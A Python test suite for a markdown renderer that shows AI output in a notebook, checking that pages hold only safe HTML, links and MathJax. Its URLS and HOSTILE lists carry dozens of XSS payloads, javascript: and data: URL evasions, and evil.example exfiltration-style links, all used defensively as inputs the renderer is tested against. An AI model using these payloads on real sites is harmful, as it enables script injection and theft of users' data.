"""What the model writes is data: whatever it is, the page holds text, safe links and mathematics, no more."""

from __future__ import annotations

import json
import re
from html import escape, unescape
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from kimi_magic.markdown import LARGEST_OPEN, Blocks, code, render
from kimi_magic.markdown.languages import LANGUAGES
from kimi_magic.view.notebook import REPAINT_LENGTH

# ---- reading a page: as a browser does, and as MathJax does ----

PLAIN = {"p", "br", "hr", "em", "strong", "s", "code", "ul", "li", "blockquote"}
PLAIN |= {"sub", "sup", "kbd", "table", "thead", "tbody", "tr"} | {f"h{level}" for level in range(1, 7)}
ALLOWED: dict[str, dict[str, str]] = {  # element: attribute: what its value must be
    **{tag: {} for tag in PLAIN},
    "i": {},  # empty: what keeps MathJax from seeing a formula
    "a": {
        "href": r"(?i)(https?://|mailto:|#).*",
        "title": r"(?s).*",
        "id": r"fnref[\w:-]+",
        "class": "footnote-backref",
        "rel": "noopener noreferrer",
        "target": "_blank",
    },
    "pre": {"class": "highlight", "style": "overflow-x:auto"},
    "span": {"class": r"[a-z0-9 ]+"},
    "div": {"style": "overflow-x:auto"},
    "table": {"style": "margin-(left|right):0"},
    "ol": {"start": r"\d+", "class": "footnotes-list"},
    "section": {"class": "footnotes"},
    "sup": {"class": "footnote-ref"},
    "li": {"id": r"fn[\w:-]+", "class": "footnote-item"},
    "hr": {"class": "footnotes-sep"},
    "th": {"style": "text-align:(start|left|center|right)"},
    "td": {"style": "text-align:(start|left|center|right)"},
}
for _tag in [
    "code",
    "div",
    "pre",
    "p",
    "ul",
    "ol",
    "li",
    "blockquote",
    "th",
    "td",
    *(f"h{n}" for n in range(1, 7)),
]:
    ALLOWED[_tag] = {**ALLOWED[_tag], "dir": "rtl|ltr"}
ALLOWED["code"]["style"] = "white-space:pre"
# Pairs that MathJax looks for in each stretch of text; an element ends the stretch, a line break does not.
FORMULA = re.compile(
    r"\\\(.*?\\\)|\\\[.*?\\\]|\$\$.*?\$\$|(?<!\\)\$.+?(?<!\\)\$|\\begin\{(\w+)\}.*?\\end\{\1\}", re.DOTALL
)
UNREAD = {"code", "pre", "script", "style", "textarea"}  # where MathJax does not look
VOID = {"br", "hr", "img"}


class Page(HTMLParser):
    """The elements of a page, its text, and the mathematics that MathJax finds in it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.links: list[str] = []
        self.text = ""
        self.nested_links = False
        self.misplaced = False
        self._open: list[str] = []
        self._stretches = [""]
        self.feed(html)
        self.close()
        self.balanced = not self._open and not self.misplaced

    @property
    def formulas(self) -> list[str]:
        return [match[0] for stretch in self._stretches for match in FORMULA.finditer(stretch)]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag == "a" and "href" in dict(attrs):
            self.links.append(str(dict(attrs)["href"]))
            self.nested_links = self.nested_links or "a" in self._open
        if tag not in VOID:
            self._open.append(tag)
            self._stretches.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        self.misplaced = self.misplaced or not self._open or self._open.pop() != tag
        self._stretches.append("")

    def handle_data(self, data: str) -> None:
        self.text += data
        if not UNREAD & set(self._open):
            self._stretches[-1] += data

    def handle_comment(self, data: str) -> None:
        self.elements.append(("!--", {"": data}))

    def handle_decl(self, decl: str) -> None:
        self.elements.append(("!", {"": decl}))

    def handle_pi(self, data: str) -> None:
        self.elements.append(("?", {"": data}))

    def unknown_decl(self, data: str) -> None:
        self.elements.append(("![", {"": data}))


def unsafe(html: str | Page, allowed: dict[str, dict[str, str]] = ALLOWED) -> list[str]:
    """Everything on a page that is more than text, safe links and mathematics."""
    page = html if isinstance(html, Page) else Page(html)
    found = [f"<{tag}>" for tag, _ in page.elements if tag not in allowed]
    for tag, attrs in page.elements:
        for name, value in attrs.items():
            pattern = allowed.get(tag, {}).get(name)
            if pattern is None or not re.fullmatch(pattern, value or ""):
                found.append(f"<{tag} {name}={value!r}>")
        if "href" in attrs and attrs.get("rel") != "noopener noreferrer":
            found.append("<a> without rel")
    if page.nested_links:
        found.append("<a> in <a>")
    if not page.balanced:
        found.append("an element that is not closed")
    return found


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<p onclick='x()'>a</p>",
        '<a href="javascript:x" rel="noopener noreferrer">a</a>',
        '<a href="/relative" rel="noopener noreferrer">a</a>',
        '<a href="https://a.b">a</a>',
        '<p><img src="https://a.b/c.png"></p>',
        "<!-- comment -->",
        "<div><p>open</p>",
        '<td style="position:fixed"></td>',
        '<a href="#" rel="noopener noreferrer"><a href="#" rel="noopener noreferrer">a</a></a>',
    ],
)
def test_the_check_itself_sees_what_is_unsafe(html: str) -> None:
    assert unsafe(html)


@pytest.mark.parametrize(
    ("html", "formulas"),
    [
        ("<p>$5 and $6</p>", ["$5 and $"]),
        ("<p>$5<br>and $6</p>", ["$5and $"]),
        ("<p><span>$</span>5 and <span>$</span>6</p>", []),
        (r"<p>\(x\) and <code>\(y\)</code></p>", [r"\(x\)"]),
        (r"<p>\begin{a}x\end{a}</p>", [r"\begin{a}x\end{a}"]),
    ],
)
def test_the_check_itself_sees_what_mathjax_sees(html: str, formulas: list[str]) -> None:
    assert Page(html).formulas == formulas


# ---- hostile text ----

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "&#1;javascript:alert(1)",
    "\x01javascript:alert(1)",
    "%6Aavascript:alert(1)",
    "javascript\\:alert(1)",
    "java\\script:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "data:image/png;base64,iVBORw0KGgo=",
    "file:///etc/passwd",
    "blob:https://a.b/1",
    "view-source:javascript:x",
    "ftp://a.b",
    "/tree?token=1",
    "../secret.ipynb",
    "secret.ipynb",
    "./x",
    "?logout",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "https:evil.example",
    "http:/evil.example",
    "https:\\\\evil.example",
    "",
]
LINKS = [
    "[a]({})",
    "[a](<{}>)",
    '[a]({} "title")',
    "![a]({})",
    "![a](<{}>)",
    "<{}>",
    "[a][r]\n\n[r]: {}",
    "[a][r]\n\n[r]: <{}> 'title'",
    "[r]\n\n[r]: {}",
    "![a][r]\n\n[r]: {}",
    "[![a]({0})]({0})",
    "> [a]({})",
    "|a|b|\n|-|-|\n|[a]({})|![a]({})|".replace("{}", "{0}"),
]


@pytest.mark.parametrize("url", URLS)
def test_a_link_that_leads_elsewhere_than_the_web_is_text(url: str) -> None:
    for link in LINKS:
        page = render(link.format(url))
        assert unsafe(page) == []
        assert Page(page).links == []


@pytest.mark.parametrize(
    "url", ["https://a.b/c?d=1&e=2#f", "http://a.b", "HTTPS://a.b", "mailto:a@b.c", "#part", "https://月.b/"]
)
def test_a_link_into_the_web_is_a_link(url: str) -> None:
    for link in (f"[a]({url})", f"[a][r]\n\n[r]: {url}", f"![a]({url})"):
        page = render(link)
        assert unsafe(page) == []
        assert len(Page(page).links) == 1
    assert Page(render("[a](https://a.b/c?d=1&e=2)")).links == ["https://a.b/c?d=1&e=2"]


def test_a_link_opens_beside_the_notebook_and_tells_nobody_where_it_was() -> None:
    for link in (
        "[a](https://a.b)",
        "<https://a.b>",
        "[a][r]\n\n[r]: https://a.b",
        "![a](https://a.b/c.png)",
    ):
        ((_, attrs),) = [element for element in Page(render(link)).elements if element[0] == "a"]
        assert attrs["rel"] == "noopener noreferrer"
        assert attrs["target"] == "_blank"
    assert 'target="_blank"' not in render("[a](#part)")


def test_a_remote_picture_is_a_link_that_nothing_fetches() -> None:
    page = render('![a *chart*](https://evil.example/?q=secret "t")')
    assert unsafe(page) == []
    assert Page(page).links == ["https://evil.example/?q=secret"]
    assert Page(page).text.strip() == "[image: a chart]"


def test_a_picture_in_a_link_is_not_a_link_in_a_link() -> None:
    page = render("[![build](https://a.b/badge.svg)](https://a.b/builds)")
    assert unsafe(page) == []
    assert "https://a.b/builds" in Page(page).links
    assert "[image: build]" in Page(page).text


HOSTILE = [
    "<script>alert(1)</script>",
    "<script\n>alert(1)\n</script\n>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "</p><script>alert(1)</script><p>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'",
    "<IMG SRC=https://evil.example/?q=secret>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>a</a>",
    "<div style='position:fixed;inset:0'>over all</div>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=key><button>Log in</button></form>",
    "<object data=x></object><embed src=x>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u2028<script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "    <img src=x onerror=alert(1)>",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```js" onload="alert(1)\nx\n```',
    "```<script>alert(1)</script>\nx\n```",
    "~~~ ><img/src=x/onerror=alert(1)>\nx\n~~~",
    "```python class=x onclick=alert(1)\nx\n```",
    "[a](https://a.b \"' onmouseover='alert(1)\")",
    "[a](https://a.b '\" onmouseover=\"alert(1)')",
    '[a](https://a.b"onmouseover="alert(1))',
    "[a](<https://a.b/'onmouseover='alert(1)>)",
    '[a](#"><script>alert(1)</script>)',
    '!["><script>alert(1)</script>](https://a.b)',
    '![a](https://a.b/"onerror="alert(1))',
    "[<img src=x onerror=alert(1)>](https://a.b)",
    "[a]: https://a.b '\"><script>alert(1)</script>'\n\n[a]",
    '<https://a.b/"onmouseover="alert(1)>',
    "# <script>alert(1)</script>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "$<script>alert(1)</script>$",
    "$</span><img src=x onerror=alert(1)>$",
    "$$\n</div><script>alert(1)</script>\n$$",
    r"\(<img src=x onerror=alert(1)>\)",
    r"\[</div><script>alert(1)</script>\]",
    "\\[\n<img src=x onerror=alert(1)>\n\\]",
    "[x](javascript:alert(1))",
    "![x](data:text/html,<script>alert(1)</script>)",
]
FRAMES = [
    "{}",
    "> {}",
    "- {}",
    "1. {}",
    "*{}*",
    "[{}](https://a.b)",
    "![{}](https://a.b)",
    "# {}",
    "|{}|\n|-|\n|{}|",
    "`{}`",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_to_life(text: str) -> None:
    for frame in FRAMES:
        assert unsafe(render(frame.replace("{}", text))) == []


@settings(max_examples=100, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, *URLS, "\n", "\n\n", " ", "]", "[", "](", ")", "`", "$", "*", "|", "<", ">"]
        )
    )
)
def test_nothing_hostile_comes_to_life_in_company_or_halfway(texts: list[str]) -> None:
    blocks = Blocks()
    for text in texts:
        assert unsafe("".join(blocks.add(text))) == []
        assert unsafe(blocks.tail()) == []
    assert unsafe(render("".join(texts))) == []


@settings(max_examples=100, deadline=None)
@given(st.text(st.sampled_from("<>&\"'`~[]()!#*_-=+|\\/:$ \n\tax1") | st.characters(codec="utf-8")))
def test_no_text_at_all_comes_to_life(text: str) -> None:
    assert unsafe(render(text)) == []


# ---- code ----

CODE = "\n\nif a < b && c > 'd':  # \"e\" &amp; <script>\n\tprint($x$, \\(y\\))\n\n"


@pytest.mark.parametrize(
    "language", ["", "python", "Python", "js", "html", "bash", "klingon", "c++", "<b>", "日本"]
)
@pytest.mark.parametrize("fence", ["```", "~~~", "`````"])
def test_code_is_shown_to_the_letter(language: str, fence: str) -> None:
    page = Page(render(f"{fence}{language}\n{CODE}{fence}").removesuffix("\n"))
    assert page.text == CODE
    assert page.formulas == []


def test_code_is_coloured_by_class_where_its_language_is_known() -> None:
    assert "<span class=k>def</span>" in render("```python\ndef f(): ...\n```")
    assert "<span" not in render("```klingon\ndef f(): ...\n```")


def test_very_long_code_is_shown_without_colours() -> None:
    written = "x = 1\n" * (code.COLOURED // 6 + 1)
    page = render(f"```python\n{written}```")
    assert "<span" not in page
    assert Page(page.removesuffix("\n")).text == written


NAMES = [name for language in LANGUAGES for name in language.names.split()]
# What begins, ends or escapes something in one of the languages, and what a scanner could stumble over.
SIGNS = [
    *"\"'`\\/#%-*(){}[]<>=@!.:;$|\n \t09aZ_\r\ufeff月",
    "/*",
    "*/",
    "(*",
    "*)",
    "{-",
    "<!--",
    "-->",
    '"""',
]
SIGNS += [
    "'''",
    "<a b=",
    "\n=begin",
    "\n=end",
    "--[[",
    "]]",
    "0x",
    "1e",
    "if",
    "rb'",
    "\\'",
    "@@",
    "::",
    "rem ",
]


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(NAMES), st.lists(st.sampled_from(SIGNS), max_size=40).map("".join) | st.text())
def test_no_letter_of_code_is_lost_by_its_colours(language: str, written: str) -> None:
    runs = code.coloured_runs(written, language)
    assert "".join(text for _, text in runs) == written
    assert {kind for kind, _ in runs} <= {"", *"cskom"}


def test_each_name_of_a_language_is_in_the_table_once_and_in_small_letters() -> None:
    assert len(set(NAMES)) == len(NAMES)
    assert [name for name in NAMES if name != name.lower()] == []


@pytest.mark.parametrize(
    ("info", "written", "kind", "text"),
    [
        ("Python title='a.py'", "x = f'it\\'s' + 1", "s", "f'it\\'s'"),
        ("{python}", "def f(): ...", "k", "def"),
        ("{.python .numberLines}", "a not in b", "o", "not in"),
        ("python:src/a.py", "'''a\n\nb'''", "s", "'''a\n\nb'''"),
        ("js", "a = `x ${y}\nz`", "s", "`x ${y}\nz`"),
        ("c++", "#include <a>", "k", "#include"),
        ("java", "/* one\ntwo */ int a", "c", "/* one\ntwo */"),
        ("rust", "fn f<'a>(x: &'a str) { 'x' }", "s", "'x'"),
        ("sql", "select 'it''s' from t", "k", "select"),
        ("sql", "SELECT a", "k", "SELECT"),
        ("bash", "echo ${#a} # all", "c", "# all"),
        ("yaml", "name: it's one", "k", "name"),
        ("html", "<p>it's</p>", "k", "</p>"),
        ("go", "x := 0x1F", "m", "0x1F"),
        ("diff", "@@ 1 @@\n-old\n+new", "k", "+new"),
        ("tex", "\\frac % why", "c", "% why"),
        ("python", "x = 'never closed\ny = 1", "s", "'never closed"),
    ],
)
def test_each_kind_of_word_has_its_colour(info: str, written: str, kind: str, text: str) -> None:
    assert (kind, text) in code.coloured_runs(written, info)


@pytest.mark.parametrize("written", ["it's", "a && b", "x <- y"])
def test_a_language_that_nobody_knows_or_a_fence_without_one_is_one_run(written: str) -> None:
    for info in ("", "klingon", "  ", "{}", "mcschema", "robotframework"):
        assert code.coloured_runs(written, info) == [("", written)]


# ---- prices and mathematics ----


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5 and $6.",
        "$5",
        "$5 to $10",
        "from $20,000 to $30,000",
        "US$5 to US$6",
        "($5), ($6)",
        "**$5** and *$6*",
        "# $5 or $6",
        "- $5\n- $6",
        "> $5 > $4",
        "|$5|$6|\n|-|-|\n|$7|$8|",
        "[$5 and $6](https://a.b)",
        "![$5 and $6](https://a.b)",
        "[a](https://a.b '$5 and $6')",
        "$5\nand $6",
        "$5  \nand $6",
        "\\$5 and \\$6",
        "&#36;5 and &dollar;6",
        "a $ b $ c",
        "$ x $",
        "$x\n\ny$",
        "$$",
        "`$5` and `$6`",
        "`\\(x\\)`",
        "    $5 and $6",
        "\\\\(x\\\\)",
        "\\begin{cases}x\\end{cases} in a line",
        "\\begin{unheard}\nx\n\\end{unheard}",
        "<https://a.b/$x$>",
        "an open \\( and an open \\[",
    ],
)
def test_what_is_no_mathematics_stays_text(text: str) -> None:
    page = Page(render(text))
    assert page.formulas == []
    assert page.text.count("$") == unescape(text).split("](", maxsplit=1)[0].count("$")


TEX = [
    "x",
    "a_b",
    "c_{1}",
    "*",
    "**y**",
    r"\,",
    r"\frac{1}{2}",
    "<",
    ">",
    "&",
    "&amp;",
    "^2",
    "~~z~~",
    "中",
    "'",
    '"',
]
TEX += [
    r"\{",
    r"\}",
    r"\%",
    "[l](https://a.b)",
    "!",
    "#",
    r"\\[2pt]",
    "`c`",
    "<b>",
    "_",
    "https://a.b",
    r"\alpha",
]
FORMULAS = st.lists(st.sampled_from(TEX), min_size=1, max_size=8).map(" ".join)
ROWS = FORMULAS | st.sampled_from(["= y", "- z", "+ w", "# h", "> q", "1. o", "===", "\\\\"])
PLACES = [
    "{}",
    "so {} holds",
    "# {}",
    "> {}",
    "- {}",
    "1. a\n   {}",
    "**{}**",
    "|{}|\n|-|\n|b|",
    "[{}](https://a.b)",
]
NOT_IN_LINKS = re.compile(r"[\[\]<`]")  # a formula in the text of a link may not contain what ends the text


@settings(max_examples=100, deadline=None)
@given(FORMULAS, st.sampled_from(PLACES))
@example("x", "{} equals 5")
@example("x", "{}")
def test_inline_mathematics_reaches_mathjax_undamaged(tex: str, place: str) -> None:
    if place.startswith("["):
        tex = NOT_IN_LINKS.sub("", tex).strip() or "x"
    for opening, closing in (("$", "$"), (r"\(", r"\)")):
        assert Page(render(place.format(opening + tex + closing))).formulas == [rf"\({tex}\)"]


@settings(max_examples=100, deadline=None)
@given(FORMULAS, st.sampled_from(["{}", "> {}", "- {}", "a\n\n{}\n\nb", "so {} holds"]))
def test_display_mathematics_reaches_mathjax_undamaged(tex: str, place: str) -> None:
    for opening, closing in (("$$", "$$"), (r"\[", r"\]")):
        assert Page(render(place.format(opening + tex + closing))).formulas == [rf"\[{tex}\]"]


@settings(max_examples=100, deadline=None)
@given(st.lists(ROWS, min_size=1, max_size=6))
@example(["x", "= y"])
@example(["- z"])
def test_display_mathematics_over_several_lines_reaches_mathjax_undamaged(rows: list[str]) -> None:
    rows = [*rows, "x"]
    tex = "\n".join(rows)
    for opening, closing in (("$$", "$$"), (r"\[", r"\]")):
        for before in ("", "So:\n", "So:\n\n"):
            page = Page(render(f"{before}{opening}\n{tex}\n{closing}\nAfter.\n"))
            (formula,) = page.formulas
            assert formula[2:-2].strip() == tex.strip()


@pytest.mark.parametrize(("opening", "closing"), [("$$", "$$"), (r"\[", r"\]")])
@pytest.mark.parametrize(
    "text", ["- {} a\n- b {}\n", "- {}\n  a\n# Heading\n{}\n", "> {} a\n\nb {}\n", "1. {}\n\n   b {}"]
)
def test_a_formula_does_not_reach_beyond_the_list_item_or_paragraph_it_stands_in(
    text: str, opening: str, closing: str
) -> None:
    page = Page(render(text.format(opening, closing)))
    assert page.formulas == []
    assert [tag for tag, _ in page.elements].count("li") == text.count("- ") + text.count("1. ")
    assert ("h1" in dict(page.elements)) == ("# " in text)


@pytest.mark.parametrize(("opening", "closing"), [("$$", "$$"), (r"\[", r"\]")])
def test_two_formulas_on_neighbouring_lines_are_two_and_the_text_between_is_text(
    opening: str, closing: str
) -> None:
    text = f"{opening}a{closing} is **one** for $5,\nor $6 for {opening}b{closing}"
    page = Page(render(text))
    assert page.formulas == [r"\[a\]", r"\[b\]"]
    assert "strong" in dict(page.elements)


# ---- block by block ----

SNIPPETS = [
    "# Heading\n",
    "Setext\n---\n",
    "Setext\n======\n",
    "A paragraph with *em*, **strong** and `code`.\n",
    "Two\nlines  \nand a break.\n\n",
    "中文，段落。\n",
    "It costs $5, not $6; \\(a_b\\) and $c_d$.\n",
    "- a\n- b\n",
    "- a\n\n- b\n",
    "- a\n  - b\n    - c\n",
    "* a\n\n  more of a\n\n      code in a\n",
    "- ```py\n  x\n  ```\n",
    "+ \n",
    "-\n",
    "1. x\n2. y\n",
    "3) x\n",
    "> q\n> r\n",
    "> q\nlazy\n",
    "> - a\n>   - b\n",
    "```py\nx = 1\n\n# no heading\n```\n",
    "~~~\n```\n~~~\n",
    "````md\n```\nx\n```\n````\n",
    "```\nnever closed\n",
    "    code\n\n    more code\n",
    "\tcode\n",
    "  indented\n",
    "|a|b|\n|-|:-:|\n|1|2|\n",
    "---\n",
    "***\n",
    "===\n",
    "$$x$$\n",
    "$$\nx\n$$\n",
    "$$\nx\n- y\n+ z\n$$\n",
    "\\[ x \\]\n",
    "\\[\na\n= b\n- c\n+ d\n\\]\n",
    "So:\n\\[\n> x\n# y\n1. z\n\\]\n",
    "So:\n$$\nx\n- y\n+ z\n* u\n$$\n",
    "$$ never closed\n",
    "- \\[ x\n",
    "<div>\nhtml\n</div>\n",
    "<script>\n\nx\n</script>\n",
    "<!-- comment -->\n",
    "a\\\nb\n",
    "[a](https://a.b) and ![b](https://c.d)\n",
    "\n",
    "\n\n",
]
DEFINITIONS = ["[l]: https://a.b\n", "[l]: https://c.d 'title'\n", "[l]: <https://e.f>\n\n"]


@st.composite
def documents(draw: st.DrawFn) -> str:
    """A document whose link definitions stand before their uses."""
    parts = draw(st.lists(st.sampled_from(SNIPPETS), max_size=8))
    if draw(st.booleans()):
        parts.insert(0, draw(st.sampled_from(DEFINITIONS)) + "\n")
        parts.insert(draw(st.integers(1, len(parts))), "See [l] and [the text][l].\n\n")
    text = "".join(parts)
    if draw(st.booleans()):
        text = text.rstrip("\n")
    return text.replace("\n", "\r\n") if draw(st.booleans()) else text


@settings(max_examples=200, deadline=None)
@given(documents(), st.lists(st.integers(0, 10_000), max_size=20))
@example("\\[\na\n= b\n- c\n+ d\n\\]\n", [10, 12, 14, 16, 18])
@example("So:\n$$\nx\n- y\n+ z\n* u\n$$\nAfter.\n", [12, 16, 20])
@example("a\r\n\r\nb\r\n\r\nc\r\n", [2, 5, 8])
def test_block_by_block_gives_the_page_of_the_whole(text: str, points: list[int]) -> None:
    whole = render(text)
    marks = [0, *sorted(point % (len(text) + 1) for point in points), len(text)]
    blocks = Blocks()
    given_out = ""
    for a, b in pairwise(marks):
        given_out += "".join(blocks.add(text[a:b]))
        assert whole.startswith(given_out)
        if text[b - 1 : b] != "\r":
            assert given_out + blocks.tail(ended=True) == render(text[:b])
    assert given_out + blocks.tail(ended=True) == whole


@settings(max_examples=50, deadline=None)
@given(documents())
def test_letter_by_letter_gives_the_page_of_the_whole(text: str) -> None:
    blocks = Blocks()
    given_out = "".join(html for letter in text for html in blocks.add(letter))
    assert given_out + blocks.tail(ended=True) == render(text)


def test_what_is_given_out_leaves_the_tail() -> None:
    blocks = Blocks()
    assert "".join(blocks.add("# One\n\nTwo.\n\n")) == ""
    assert blocks.tail() == "<h1>One</h1>\n<p>Two.</p>\n"
    assert "".join(blocks.add("Three")) == "<h1>One</h1>\n"
    assert blocks.tail() == "<p>Two.</p>\n<p>Three</p>\n"


def test_nothing_gives_nothing() -> None:
    blocks = Blocks()
    assert "".join(blocks.add("")) == ""
    assert blocks.tail() == render("") == ""


def test_most_of_a_long_answer_is_given_out_and_not_parsed_again() -> None:
    blocks = Blocks()
    for number in range(50):
        blocks.add(f"Paragraph {number}.\n\n")
    assert blocks.tail() == "<p>Paragraph 48.</p>\n<p>Paragraph 49.</p>\n"


def test_an_open_formula_holds_back_only_itself() -> None:
    blocks = Blocks()
    given_out = "".join(blocks.add("# One\n\nTwo.\n\n\\[\na\n- b\n+ c\n* d\n"))
    assert given_out == "<h1>One</h1>\n<p>Two.</p>\n"
    blocks.add("\\]\n")
    assert Page(blocks.tail()).formulas == ["\\[\na\n- b\n+ c\n* d\n\\]"]


def test_a_definition_before_its_use_is_known_to_every_later_block() -> None:
    text = "[l]: https://a.b\n\n" + "See [l].\n\n" * 5
    blocks = Blocks()
    given_out = "".join(html for letter in text for html in blocks.add(letter))
    assert given_out + blocks.tail(ended=True) == render(text)
    assert Page(given_out + blocks.tail(ended=True)).links == ["https://a.b"] * 5


def test_a_definition_that_is_still_being_written_is_not_believed_yet() -> None:
    text = "See [l].\n\n[l]: https://a.b/long/address\n\nSee [l].\n"
    blocks = Blocks()
    for letter in text:
        blocks.add(letter)
    assert Page(blocks.tail()).links[-1] == "https://a.b/long/address"


def test_a_definition_after_its_use_is_known_when_the_whole_is_rendered() -> None:
    assert Page(render("See [l].\n\nA.\n\nB.\n\n[l]: https://a.b\n")).links == ["https://a.b"]


def test_text_is_shown_to_the_letter() -> None:
    text = "a < b & c > d \"e\" 'f' &copy; é 月 🌒 \u200d"
    assert Page(render(text)).text.strip() == text.replace("&copy;", "©").strip()
    assert escape("a < b & c") in render(text)


LONG_BLOCKS = {
    "code": "```python\n" + "".join(f"x_{n} = {n}  # a line of code\n" for n in range(2000)) + "```\n",
    "list": "".join(f"{n}. point number {n} of many\n" for n in range(1, 1500)),
    "table": "| a | b |\n| --- | --- |\n" + "".join(f"| {n} | row |\n" for n in range(3000)),
    "paragraph": "word " * 8000,
    "quote": "".join(f"> line {n} of a long quotation\n" for n in range(1500)),
    "one line of code": "```\n" + "no end " * 6000,
}


@pytest.mark.parametrize("text", LONG_BLOCKS.values(), ids=LONG_BLOCKS.keys())
def test_a_block_without_end_is_not_rendered_again_and_again(text: str) -> None:
    blocks, shown, largest = Blocks(), "", 0
    for start in range(0, len(text), 200):
        shown += blocks.add(text[start : start + 200])
        largest = max(largest, len(blocks.tail()))
    assert largest < 40_000
    plain = re.compile(r"<[^>]*>|\s+")
    words = plain.sub("", shown + blocks.tail())
    for word in ("x_1999", "1499of", "2999row", "word", "1499ofalong", "noend"):
        if word in plain.sub("", render(text)):
            assert words.count(word) >= plain.sub("", render(text)).count(word)


def test_tasks_are_boxes_and_footnotes_have_anchors_of_their_own() -> None:
    page = render("- [x] done\n- [ ] to do\n- [y] neither\n\nA claim.[^1]\n\n[^1]: The proof.\n")
    assert "<li>☑ done</li>" in page
    assert "<li>☐ to do</li>" in page
    assert "[y] neither" in page
    assert '<section class="footnotes">' in page
    anchors = set(re.findall(r'id="(fn[^"]+)"', page))
    assert anchors
    assert not anchors & set(re.findall(r'id="(fn[^"]+)"', render("Another.[^1]\n\n[^1]: Proof.\n")))
    assert set(unsafe(page)) <= {"<a> without rel"}  # they lead to places of this page


@pytest.mark.parametrize(
    "macro", [r"\unicode[x;background:url(//a.b)]{65}", r"\mmlToken{mi}[a=b]{x}", r"\href{//a.b}{x}"]
)
@pytest.mark.parametrize("pair", [("$", "$"), ("$$", "$$"), (r"\(", r"\)"), (r"\[", r"\]"), ("$$\n", "\n$$")])
def test_a_formula_that_could_reach_out_is_shown_as_code(macro: str, pair: tuple[str, str]) -> None:
    page = Page(render(f"So {pair[0]}{macro}{pair[1]} it is" if "\n" not in pair[0] else macro.join(pair)))
    assert page.formulas == []
    assert macro in page.text


def test_ordinary_formulas_with_similar_names_stay_formulas() -> None:
    assert "<code>" not in render(r"$\urlabel + \classical + \styled$")


DENSE = {
    "table": "| a | b | c |\n|---|---|---|\n" + "| 1 | **2** | `3` |\n" * 600,
    "list": "- a\n  - b **c**\n" * 800,
    "code": "```json\n" + json.dumps([{"a": i, "b": [1, 2, {"c": None}]} for i in range(400)]),
    "emphasis": "*a* **b** `c` " * 900,
    "links": "[a](https://example.org/x) " * 500,
    "prices": "$5 & " * 2500,
    "Chinese": "思考模型在这里回答。" * 1200,
}


@pytest.mark.parametrize("text", DENSE.values(), ids=DENSE)
def test_what_is_given_out_at_once_is_small_however_dense_the_text(text: str) -> None:
    blocks = Blocks()
    for start in range(0, len(text), REPAINT_LENGTH):
        assert len(blocks.add(text[start : start + REPAINT_LENGTH]).encode()) <= 12_000
        assert len(blocks.tail().encode()) <= LARGEST_OPEN + 50
